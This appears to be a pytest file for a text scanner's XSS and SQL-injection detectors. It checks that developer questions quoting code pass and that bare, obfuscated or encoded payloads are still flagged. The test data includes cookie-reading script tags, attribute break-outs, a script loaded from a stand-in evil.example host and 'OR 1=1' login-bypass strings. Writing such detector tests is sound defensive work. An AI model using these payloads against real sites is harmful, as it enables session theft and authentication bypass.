"""xss and sql_injection weigh a match against its context: a developer question that quotes
markup or SQL passes, a payload (bare, opening the text, evasive or many) is still flagged."""

from __future__ import annotations

import pytest

from scanners.text import TextScanner

SCANNER = TextScanner(["xss", "sql_injection"])


@pytest.mark.parametrize(
    "text",
    [
        "Why doesn't <script>alert(1)</script> run when I set it with innerHTML?",
        "How do I stop users from adding <iframe src=...> tags to their profile bio?",
        "In React, is it safe to render <img src=x onerror=alert(1)> with dangerouslySetInnerHTML?",
        'Here is my template:\n```html\n<div onclick="toggle()">menu</div>\n'
        '<script src="app.js"></script>\n```\nwhy is the menu not opening?',
        "Can you explain why `' OR 1=1 --` logs in as admin and how prepared statements "
        "prevent it?",
        "How do I escape an <svg onload=...> attribute in Jinja so the XSS test passes?",
        "What does the `UNION SELECT null, version()` part of this SQL injection example do?",
    ],
)
def test_questions_that_quote_code_pass(text: str) -> None:
    assert SCANNER.scan([text]).findings == (), text


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(document.cookie)</script>",
        "<script src=//evil.example/x.js></script> -- what does this do?",
        "Why does this work? <ScRiPt>alert(1)</ScRiPt>",
        "How do I fix this? %3Cscript%3Ealert(1)%3C/script%3E",
        'How do I fix this? "><img src=x onerror=alert(1)>',
        "How do I fix this? <svg/onload=alert(1)>",
        "How do I fix this? 1'/**/OR/**/1=1--",
        "admin' OR '1'='1' -- why does this log me in?",
        "How do i prevent this: <script>a()</script><iframe src=x></iframe><object data=x>"
        "<embed src=x>",
    ],
)
def test_payloads_stay_flagged_even_in_a_question(text: str) -> None:
    assert SCANNER.scan([text]).findings, text


# Django's form-media documentation, as a developer pastes it: prose, a template's output with
# five script tags, more prose (published text, shortened; see evals/PROVENANCE.md).
_MEDIA_DOCS = (
    "Form assets: when you render a widget's media, Django writes one tag per file. For example,"
    " a calendar widget that needs three scripts and a stylesheet is rendered like this:\n"
    + '<link href="http://static.example.com/pretty.css" media="all" rel="stylesheet">\n'
    + "".join(
        f'<script src="http://static.example.com/{n}.js"></script>\n'
        for n in ("jquery", "calendar", "time", "actions", "whizbang")
    )
    + " ".join(
        [
            "The order of assets follows the order in which widgets are declared, and"
            " duplicates are removed so each file is loaded once per page."
        ]
        * 8
    )
)


def test_a_long_page_that_quotes_a_template_s_output_passes() -> None:
    # `rel="stylesheet">` then `<script` closes a tag the text opened: no break-out
    assert SCANNER.scan([_MEDIA_DOCS]).findings == ()


def test_a_break_out_quote_still_keeps_findings_in_long_prose() -> None:
    attack = _MEDIA_DOCS.replace("<link href", '"><script src=//evil.example/x.js></script><link')
    assert SCANNER.scan([attack]).findings


@pytest.mark.parametrize(
    "text",
    [
        "Pourquoi <script>alert(1)</script> ne s'exécute pas quand je l'insère avec innerHTML ?",
        "Wie kann ich verhindern, dass Nutzer <iframe src=x></iframe> in ihr Profil schreiben?",
        "¿Cómo evito que ' OR 1=1 -- entre en mi consulta? Uso PHP y MySQL.",
        "Почему <script>alert(1)</script> не выполняется, если вставить его через innerHTML?",  # noqa: RUF001
        "为什么用 innerHTML 插入 <script>alert(1)</script> 时脚本不会执行？我该如何防止这种情况",  # noqa: RUF001
        "innerHTMLで <script>alert(1)</script> を入れても実行されないのはなぜですか？防ぐ方法は",  # noqa: RUF001
    ],
)
def test_questions_in_other_languages_pass(text: str) -> None:
    assert SCANNER.scan([text]).findings == (), text


@pytest.mark.parametrize(
    "text",
    [
        "Pourquoi ça marche ? %3Cscript%3Ealert(1)%3C/script%3E",
        "为什么 <ScRiPt>alert(1)</ScRiPt> 可以执行",
    ],
)
def test_evasive_payloads_in_other_languages_stay_flagged(text: str) -> None:
    assert SCANNER.scan([text]).findings, text
